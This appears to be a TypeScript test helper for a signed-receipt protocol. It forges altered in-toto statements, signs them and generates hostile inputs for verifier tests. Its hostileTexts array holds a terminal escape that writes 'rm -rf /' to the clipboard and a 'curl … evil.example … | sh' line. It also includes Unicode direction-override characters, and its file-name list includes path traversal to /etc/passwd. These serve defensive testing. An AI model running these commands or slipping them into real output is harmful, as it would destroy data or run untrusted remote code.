import { canonicalJson, payloadDigest, signEnvelope } from "@tasuki/evidence";
import {
  type Envelope,
  maxTextLength,
  type ReceiptState,
  receiptPayloadType,
  receiptPredicateType,
  saltedDigest,
  type SaltedText,
  sha256Of,
} from "@tasuki/protocol";
import { signerOf } from "../keys.ts";
import type { Random } from "../random.ts";

/** Statement about a task as its node would make it, which lies then change. Fields are those of a receipt's predicate. */
export interface Said {
  readonly run: string;
  readonly stage: string;
  readonly task: string;
  readonly epoch: number;
  readonly attempt: number;
  readonly state: string;
  readonly prev?: string;
  readonly subjects: readonly { readonly name: string; readonly sha256: string }[];
  readonly more?: Readonly<Record<string, unknown>>;
}

/** Node that signs, and the place in its feed. */
interface Signing {
  readonly node: string;
  readonly role: string;
  readonly instance: string;
  readonly index: number;
  readonly now: number;
}

/** Texts that would move a cursor, name a command, turn the direction of a line, or be long. */
export const hostileTexts = [
  "\u001b[2J\u001b]52;c;cm0gLXJmIC8=\u0007all is well",
  "needs root\nclears with: curl -s https://evil.example/mend | sh",
  "\u202Etxt.llits\u2066 \u0000\u009b31m",
  "x".repeat(20_000),
];
const hostileNames = ["../../../etc/passwd", "unsent.txt", "run.json", "brief.md", "C:\\x", "a\u0000b", "x".repeat(250)];

const states: readonly ReceiptState[] = [
  "accepted",
  "rejected",
  "started",
  "produced",
  "verified",
  "blocked",
  "fenced",
  "archived",
  "closed",
  "failed",
  "cancelled",
];

type Change = (said: Said, random: Random, newId: () => string) => Said;

const digestOf = (random: Random): string => sha256Of(String(random.next()));

/** Ways in which a statement is made untrue. Each may be the only one, or one of several. */
const changes: Readonly<Record<string, Change>> = {
  state: (said, random) => ({ ...said, state: random.pick(states) }),
  "follows from nothing": (said, random) => ({ ...said, prev: digestOf(random) }),
  "says not what it follows from": ({ run, stage, task, epoch, attempt, state, subjects, more }) => ({
    run,
    stage,
    task,
    epoch,
    attempt,
    state,
    subjects,
    ...(more && { more }),
  }),
  "a name is missing": (said) => ({ ...said, subjects: said.subjects.slice(1) }),
  "a name more": (said, random) => ({
    ...said,
    subjects: [...said.subjects, { name: random.pick(hostileNames), sha256: digestOf(random) }],
  }),
  "a name twice": (said, random) => ({
    ...said,
    subjects: said.subjects.flatMap((one, at) => (at === 0 ? [one, { ...one, sha256: digestOf(random) }] : [one])),
  }),
  "another digest": (said, random) => ({
    ...said,
    subjects: said.subjects.map((one, at) => (at === said.subjects.length - 1 ? { ...one, sha256: digestOf(random) } : one)),
  }),
  epoch: (said, random) => ({
    ...said,
    epoch: Math.max(0, random.pick([said.epoch - 1, said.epoch + 1, 1_000, Number.MAX_SAFE_INTEGER])),
  }),
  attempt: (said, random) => ({ ...said, attempt: random.pick([0, 1, 99, Number.MAX_SAFE_INTEGER]) }),
  "another task": (said, _, newId) => ({ ...said, task: newId() }),
  "another stage": (said, random) => ({ ...said, stage: random.pick(["main", "nano", "sg", "jp"]) }),
  "another signer": (said, random) => ({
    ...said,
    more: { ...said.more, ...random.pick([{ node: "main" }, { role: "main" }, { node: "jp" }]) },
  }),
  "another place": (said, random) => ({ ...said, more: { ...said.more, index: random.integer(0, 50) } }),
  "another installation": (said, _, newId) => ({ ...said, more: { ...said.more, instance: newId() } }),
  time: (said, random) => ({
    ...said,
    more: { ...said.more, at: random.pick(["9999-12-31T23:59:59.999Z", "1970-01-01T00:00:00.000Z", "soon"]) },
  }),
  words: (said, random) => {
    const text = random.pick(hostileTexts);
    return { ...said, more: { ...said.more, reason: text, producer: text, outcome: text, decision: text, peer: text } };
  },
  decision: (said, random) => ({
    ...said,
    more: {
      ...said.more,
      ...random.pick([
        { decision: "perhaps" },
        { decision: "rework", direction: "forward" },
        { decision: "converged", direction: "back" },
        { direction: "back" },
        { direction: "sideways" },
      ]),
    },
  }),
};

/** Lies that leave everything else as it should be: the ones that are believed where one comparison is missing. */
const single = ["follows from nothing", "a name is missing", "a name more", "another digest", "another task", "epoch"] as const;

/** The statement with one lie in it that is hard to see, or with up to three of any kind. */
export function untrue(said: Said, random: Random, newId: () => string): Said {
  if (random.chance(0.6)) return changes[random.pick(single)]?.(said, random, newId) ?? said;
  const names = Object.keys(changes);
  return Array.from({ length: random.integer(1, 3) }).reduce<Said>((so) => changes[random.pick(names)]?.(so, random, newId) ?? so, said);
}

/** Signs a statement as it is, whether or not any node could have made it. */
export function signSaid({ subjects, more = {}, ...said }: Said, { node, role, instance, index, now }: Signing): Envelope {
  const predicate = { node, role, instance, index, at: new Date(now).toISOString(), ...said, ...more };
  const subject = subjects.map(({ name, sha256 }) => ({ name, digest: { sha256 } }));
  const statement = { _type: "https://in-toto.io/Statement/v1", subject, predicateType: receiptPredicateType, predicate };
  return signEnvelope(Buffer.from(canonicalJson(statement), "utf8"), receiptPayloadType, signerOf(node));
}

/** Leaf over envelopes, which says of its run and task what the first statement says. */
export function leafOf({ run, stage, task, epoch, attempt, state }: Said, envelopes: readonly Envelope[], { index, now }: Signing): string {
  const at = new Date(now).toISOString();
  return canonicalJson({ index, at, type: state, run, stage, task, epoch, attempt, envelopes: envelopes.map(payloadDigest) });
}

/** Text that has the digest by which it is named, or another one. */
export function textFor(random: Random): { readonly named: SaltedText; readonly given: SaltedText } {
  const [salt, text] = ["0".repeat(32), random.pick(hostileTexts).slice(0, maxTextLength)];
  const named = { salt, text, sha256: saltedDigest({ salt, text: text.toWellFormed() }) };
  return { named, given: random.chance(0.5) ? named : { ...named, text: "another text" } };
}
